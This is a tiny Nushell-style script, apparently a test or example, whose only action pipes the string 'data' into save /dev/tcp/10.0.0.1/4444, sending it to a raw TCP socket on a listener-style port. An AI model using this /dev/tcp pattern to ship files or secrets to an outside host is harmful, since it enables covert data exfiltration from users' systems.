def main [] {
  "data" | save /dev/tcp/10.0.0.1/4444
}
